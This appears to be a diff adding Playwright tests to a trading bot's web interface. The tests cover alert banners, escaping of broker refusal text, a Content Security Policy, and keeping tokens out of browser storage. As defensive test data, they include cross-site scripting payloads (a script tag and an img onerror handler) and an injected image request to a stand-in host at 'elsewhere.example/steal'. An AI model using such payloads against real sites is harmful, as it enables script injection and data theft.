@@ -6,6 +6,7 @@ import os
 import re
 import shutil
 from collections.abc import Iterator
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -16,8 +17,10 @@ from tests.unit.api.rig import DEADLINE_S, Rig, a_rig
 from tests.unit.api.test_orders import fail, fill, place
 from tests.unit.storage.builders import an_order
 from tradebot.domain.access import Scope
+from tradebot.domain.alerts import AlertName, Severity
 from tradebot.domain.errors import BrokerRejected
 from tradebot.domain.orders import OrderStatus
+from tradebot.engine.messages import AlertChanged
 from tradebot.interfaces.api.application import make_app
 from tradebot.interfaces.api.metering import NoMeter
 from tradebot.interfaces.api.server import HttpServer
@@ -227,6 +230,62 @@ def test_the_kill_switch_is_latched_and_released_from_the_page(rig: Rig, desk: D
     page.get_by_role("button", name="Release kill switch").click()
     desk.confirm("Release kill switch")
     expect(page.locator(".banner.bad")).to_have_count(0)
+
+
+def test_an_alert_that_fires_is_shown_and_marked_as_seen(rig: Rig, desk: Desk) -> None:
+    found = AlertChanged(name=AlertName.FILL_RATE, severity=Severity.CRITICAL, figure=Decimal(60), events=25)
+    rig.do(lambda house: house.tell(found))
+    banner = desk.page.locator(".alerts .banner", has_text="Fill rate: 60 per cent")
+    banner.get_by_role("button", name="Seen").click()
+    expect(banner).to_contain_text("seen by")
+    expect(banner.get_by_role("button", name="Seen")).to_have_count(0)
+
+
+def test_what_a_broker_says_is_shown_as_text_and_never_run(rig: Rig, desk: Desk) -> None:
+    """A refusal's words become the reason; so does whatever somebody could put into them."""
+    words = '<script>window.owned = 1</script><img src=x onerror="window.owned = 1">'
+    fail(rig, "INFY", words)
+    desk.page.get_by_role("tab", name="Failed").click()
+    row = desk.page.locator("[data-order]", has_text="INFY")
+    expect(row).to_contain_text("<script>window.owned = 1</script>")
+    row.click()
+    expect(desk.page.locator(".events li").last).to_contain_text("onerror=")
+    assert desk.page.evaluate("window.owned") is None
+    assert desk.page.locator("main img[src=x]").count() == 0
+
+
+def test_the_policy_keeps_a_script_that_somebody_puts_into_the_page_from_running(rig: Rig, desk: Desk) -> None:
+    desk.page.evaluate(
+        """() => {
+            const inline = document.createElement("script");
+            inline.textContent = "window.owned = 1";
+            document.body.append(inline);
+            const elsewhere = document.createElement("img");
+            elsewhere.src = "http://elsewhere.example/steal?it";
+            document.body.append(elsewhere);
+        }"""
+    )
+    desk.page.wait_for_function("() => true")
+    assert desk.page.evaluate("window.owned") is None
+    refused = [error for error in desk.errors if "Content Security Policy" in error]
+    assert len(refused) == 2, desk.errors
+    desk.errors.clear()
+
+
+def test_no_token_is_left_where_a_script_or_a_history_finds_it(browser: Browser, rig: Rig) -> None:
+    token = rig.token(Scope.READ)["Authorization"].removeprefix("Bearer ")
+    desk = Desk(browser, rig)
+    asked: list[str] = []
+    desk.page.on("request", lambda request: asked.append(request.url))
+    desk.page.get_by_label("Token").fill(token)
+    desk.page.get_by_role("button", name="Open the desk").click()
+    expect(desk.page.locator(".link")).to_have_text("Live")
+    stored = desk.page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
+    assert token not in stored
+    assert stored == '[{"theme":"auto"},{},""]'
+    assert token not in desk.page.url
+    assert not [url for url in asked if token in url]
+    desk.close()
 
 
 def test_the_page_survives_a_restart_of_the_daemon(rig: Rig, desk: Desk) -> None:
